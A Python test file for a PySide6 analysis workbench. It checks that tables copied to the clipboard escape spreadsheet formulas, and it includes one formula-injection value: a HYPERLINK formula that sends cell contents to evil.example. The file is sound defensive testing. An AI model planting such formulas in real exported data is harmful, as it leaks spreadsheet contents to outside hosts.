"""A table copied to the clipboard cannot run formulas in a spreadsheet, as the CSV export cannot (issue 16)."""

from __future__ import annotations

from pathlib import Path

from PySide6.QtGui import QGuiApplication

from workbench.core.cells import safe_cell
from workbench.core.store import open_case
from workbench.ui.main_window import MainWindow


def test_copied_analysis_table_escapes_formulas(qtbot, small_case: Path) -> None:
    with open_case(small_case) as case:
        case.update("actors", "actor-kremlin", {"name": '=HYPERLINK("https://evil.example/?q="&A1,"click")'})
        case.update("actors", "actor-omon", {"name": "@SUM(A1:A9)"})
    window = MainWindow()
    window.keep_layout = False
    qtbot.addWidget(window)
    window.show()
    assert window.open_path(small_case)
    pane = window.view("graph")
    pane.flush()
    pane.compute_metrics(force=True)
    pane.analysis.copy()
    cells = [line.split("\t")[0] for line in QGuiApplication.clipboard().text().splitlines()[1:]]
    assert "'=HYPERLINK(\"https://evil.example/?q=\"&A1,\"click\")" in cells
    assert "'@SUM(A1:A9)" in cells
    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)


def test_numbers_are_not_mistaken_for_formulas() -> None:
    assert safe_cell("-3.5") == "-3.5" and safe_cell("+7") == "+7"
    assert safe_cell("-cmd") == "'-cmd" and safe_cell(42) == 42
